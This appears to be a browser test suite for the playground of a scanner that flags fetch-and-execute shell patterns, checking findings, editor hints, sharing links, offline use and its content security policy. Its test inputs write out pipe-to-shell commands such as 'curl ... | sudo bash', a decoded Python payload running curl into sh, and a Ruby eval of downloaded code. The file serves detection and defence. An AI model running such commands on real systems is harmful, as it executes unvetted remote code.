@@ -1,0 +1,245 @@
+import { chromium, type Browser, type Page } from "playwright-core";
+import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
+import { fragmentOf, sharedOf, type Shared } from "../../site/playground/share.js";
+import { builtSite, serveSite, type SiteServer } from "./built-site.js";
+
+let server: SiteServer;
+let browser: Browser;
+beforeAll(async () => {
+  server = await serveSite(await builtSite());
+  browser = await chromium.launch({
+    executablePath: "/usr/bin/chromium",
+    args: ["--no-sandbox", "--disable-gpu"],
+  });
+});
+afterAll(async () => {
+  await browser.close();
+  await server.close();
+});
+
+let trouble: string[] = [];
+afterEach(() => expect(trouble.splice(0)).toEqual([]));
+
+/** Opens the playground, with what a link holds, and waits for the first result. */
+async function open(shared: Partial<Shared> | null = null): Promise<Page> {
+  const context = await browser.newContext();
+  const page = await context.newPage();
+  page.on("pageerror", ({ message }) => trouble.push(message));
+  page.on("console", (message) => message.type() === "error" && trouble.push(message.text()));
+  const whole = { text: "", profile: "extended" as const, format: "", query: null, ...shared };
+  await page.goto(`${server.address}playground/${shared === null ? "" : `#${fragmentOf(whole)}`}`);
+  await page.waitForFunction(() => document.documentElement.dataset["state"] !== undefined);
+  return page;
+}
+
+const summary = (page: Page): Promise<string | null> => page.textContent("#summary");
+const summaryIs = (page: Page, text: string): Promise<unknown> =>
+  page.waitForFunction(
+    (part) => document.getElementById("summary")?.textContent?.includes(part),
+    text,
+  );
+
+/** What the editor underlines with a severity. */
+const underlined = (page: Page, severity: string): Promise<string[]> =>
+  page.locator(`#text .cm-lintRange-${severity}`).allTextContents();
+
+/** Replaces the text in an editor, as a person does. */
+async function type(page: Page, editor: string, text: string): Promise<void> {
+  await page.click(`${editor} .cm-content`);
+  await page.keyboard.press("Control+a");
+  await page.keyboard.insertText(text);
+}
+
+describe("the playground", () => {
+  it("shows the trace, the safer command, and what dismissed a command", async () => {
+    const page = await open();
+    expect(await summary(page)).toBe("Label PS: 1 finding, 1 not reported");
+    expect(await underlined(page, "error")).toEqual([
+      "curl -fsSL https://get.example/install.sh | sudo bash",
+    ]);
+    expect(await underlined(page, "hint")).toEqual([
+      "wget -qO- https://other.example/setup.sh | sh",
+    ]);
+    const [finding, note] = await page.locator("#results article").allTextContents();
+    expect(finding).toMatch(/fetch: curl fetches remote content.*contract\/bash\/fetchers\.scm:\d/);
+    expect(finding).toContain("sudo bash ./install.sh --yes");
+    expect(note).toContain('warned against by: "Never run"');
+    await page.click("text=Show the evidence");
+    expect(await page.evaluate(() => getSelection()?.toString())).toBe("Never run");
+    expect(await page.getAttribute("#results h3 a", "href")).toBe("../rules/bash/fetch-pipe.html");
+    await page.close();
+  });
+
+  it("follows what is typed, the profile and the language", async () => {
+    const page = await open();
+    await type(page, "#text", "curl https://a.example | fish");
+    await summaryIs(page, "Label PS: 1 finding");
+    await page.selectOption("#profile", "contract");
+    await summaryIs(page, "No label");
+    await type(page, "#text", "# curl https://a.example | sh");
+    await summaryIs(page, "No label: no findings");
+    await page.selectOption("#format", "dockerfile");
+    await type(page, "#text", "RUN curl https://a.example | sh");
+    await summaryIs(page, "Label PS: 1 finding");
+    await page.close();
+  });
+
+  it("shows the decoded payload", async () => {
+    const page = await open();
+    await page.selectOption("#example", "A decoded payload");
+    await page.waitForSelector("#results :text('Decoded payload')");
+    expect(await page.textContent("#results article")).toMatch(
+      /Decoded payloadimport os; os\.system\("curl https:\/\/a\.example \| sh"\).*1 finding in it/s,
+    );
+    await page.close();
+  });
+
+  it("adds a query file of one's own, and shows its mistake at line and column", async () => {
+    const page = await open({ text: "acmeget install | sh" });
+    expect(await summary(page)).toBe("No label: no findings");
+    await page.click("#query-panel summary");
+    await summaryIs(page, "Label PS: 1 finding");
+    const card = await page.textContent("#results article");
+    expect(card).toContain("acme/no-acmeget");
+    expect(card).toContain("Install the package instead.");
+    await type(
+      page,
+      "#query",
+      '; acmeget\n((command_nam) @source.fetcher\n  (#word-is? @source.fetcher "x"))\n',
+    );
+    await summaryIs(page, "the query file has an error");
+    expect(await page.textContent("#query-problem")).toMatch(
+      /^Line 2, column 16: @source\.fetcher does nothing on a command_nam/,
+    );
+    expect(await page.locator("#query .cm-lintRange-error").allTextContents()).toEqual([
+      "@source.fetcher",
+    ]);
+    await page.close();
+  });
+
+  it("shows the tree and the captures of a part of the text", async () => {
+    const page = await open();
+    await page.click("#trees summary");
+    await page.waitForSelector("#nodes li");
+    expect(await page.textContent("#tree-status")).toBe("Parsed as bash without an error.");
+    const captures = await page.locator("#captures tr").allTextContents();
+    expect(captures).toContainEqual(expect.stringMatching(/^@source\.fetchercurlcontract\/bash/));
+    await page.click("#nodes button:has-text('(pipeline)')");
+    expect(await page.evaluate(() => getSelection()?.toString())).toBe(
+      "curl -fsSL https://get.example/install.sh | sudo bash -s -- --yes",
+    );
+    await page.close();
+  });
+
+  it("opens a file that is chosen, as what its name says", async () => {
+    const page = await open();
+    const buffer = Buffer.from("FROM x\nRUN curl https://a.example | sh\n");
+    await page.setInputFiles("#file", { name: "Dockerfile", mimeType: "text/plain", buffer });
+    await summaryIs(page, "Label PS: 1 finding");
+    await page.waitForFunction(
+      () => document.querySelector<HTMLSelectElement>("#format")?.value === "dockerfile",
+    );
+    await page.close();
+  });
+
+  it("puts what it holds into a link, and takes it out", async () => {
+    const query = { path: "bash/own.scm", text: "; none\n" };
+    const page = await open({
+      text: "echo ü «» 漢字\n",
+      profile: "contract",
+      format: "bash",
+      query,
+    });
+    await page.click("#share");
+    await page.waitForFunction(() => document.getElementById("announcement")?.textContent !== "");
+    expect(sharedOf(new URL(page.url()).hash)).toEqual({
+      text: "echo ü «» 漢字\n",
+      profile: "contract",
+      format: "bash",
+      query,
+    });
+    await page.close();
+  });
+
+  it("is used with the keyboard alone", async () => {
+    const page = await open();
+    await page.click("#text .cm-content");
+    await page.keyboard.press("Tab");
+    expect(await page.evaluate(() => document.activeElement?.tagName)).toBe("SUMMARY");
+    await page.keyboard.press("Shift+Tab");
+    await page.keyboard.press("Control+Home");
+    await page.keyboard.press("F8");
+    expect(await page.evaluate(() => getSelection()?.toString())).toContain("curl -fsSL");
+    await page.close();
+  });
+});
+
+describe("a text in the playground", () => {
+  it("causes no request once the service worker has stored the page, and needs no network", async () => {
+    const page = await open();
+    await page.waitForFunction(() => document.documentElement.dataset["offline"] === "ready");
+    await page.waitForLoadState("networkidle");
+    server.requests.length = 0;
+    for (const [name, rule] of [
+      ["PowerShell", "powershell/fetch-execute"],
+      ["A decoded payload", "python/decode-execute"],
+    ] as const) {
+      await page.selectOption("#example", name);
+      await page.waitForSelector(`#results h3:has-text("${rule}")`);
+    }
+    await page.selectOption("#format", "ruby");
+    await type(page, "#text", 'eval(Net::HTTP.get(URI("https://a.example/x.rb")))');
+    await page.waitForFunction(() =>
+      document.querySelector("#results h3")?.textContent?.includes("script/fetch-execute"),
+    );
+    expect(server.requests).toEqual([]);
+    await page.context().setOffline(true);
+    await page.reload();
+    await summaryIs(page, "Label PS: 1 finding");
+    await page.close();
+  });
+
+  it("is kept to itself: the policy forbids the page and its worker every other host", async () => {
+    const page = await open();
+    const refused = await page.evaluate(async () => {
+      const tries = async (run: string): Promise<string> => {
+        const address = URL.createObjectURL(new Blob([run], { type: "text/javascript" }));
+        const worker = new Worker(address);
+        return new Promise((resolve) =>
+          worker.addEventListener("message", ({ data }) => resolve(data)),
+        );
+      };
+      const other = "http://127.0.0.2:9/";
+      const here = await fetch(other).then(
+        () => "sent",
+        () => "refused",
+      );
+      const there = await tries(
+        `fetch("${other}").then(() => postMessage("sent"), () => postMessage("refused"));
+         addEventListener("securitypolicyviolation", ({ effectiveDirective }) => postMessage(effectiveDirective))`,
+      );
+      return [here, there];
+    });
+    expect(refused[0]).toBe("refused");
+    expect(["refused", "connect-src"]).toContain(refused[1]);
+    expect(
+      trouble.filter((message) => /Content Security Policy|connect-src/.test(message)).length,
+    ).toBeGreaterThanOrEqual(2);
+    trouble = [];
+    await page.close();
+  });
+});
+
+describe("sharedOf", () => {
+  it.each(["", "#", "#v1.", "#v1.AAAA", "#v2.abc", "#v1.!", `#v1.${btoa("[1]")}`])(
+    "takes nothing out of %j",
+    (fragment) => expect(sharedOf(fragment)).toBeNull(),
+  );
+
+  it("is bounded", () => {
+    const text = "a".repeat(5_000_000);
+    const fragment = fragmentOf({ text, profile: "contract", format: "", query: null });
+    expect(fragment.length).toBeLessThan(10_000);
+    expect(sharedOf(fragment)).toBeNull();
+  });
+});
